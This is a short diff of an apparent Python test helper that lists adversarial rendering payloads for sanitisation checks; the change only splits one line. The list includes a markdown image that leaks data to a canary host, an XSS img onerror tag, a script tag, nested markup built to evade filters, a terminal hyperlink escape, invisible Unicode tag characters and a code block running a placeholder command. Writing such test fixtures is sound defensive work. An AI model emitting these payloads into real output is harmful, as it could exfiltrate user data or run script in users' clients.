@@ -84,7 +84,8 @@ def _tips(path: str) -> Iterator[tuple[str, object]]:
     texts = {
         "an image that leaks": f"![x](https://{CANARY}.example/?d=data)",
         "a link": f"[see here](https://{CANARY}.example)", "a bare URL": f"https://{CANARY}.example",
-        "HTML": f"<img src=https://{CANARY}.example onerror=alert(1)>", "a script": "<script>x</script>",
+        "HTML": f"<img src=https://{CANARY}.example onerror=alert(1)>",
+        "a script": "<script>x</script>",
         "nested HTML": f"<<b>script>{CANARY}</<b>script>", "a terminal link":
         f"\x1b]8;;https://{CANARY}.example\x07click\x1b]8;;\x07", "a mention": f"@{CANARY} please",
         "a code block": f"```yaml\nrun: {EVIL}\n```", "tags nobody sees": "\U000e0063\U000e0034",
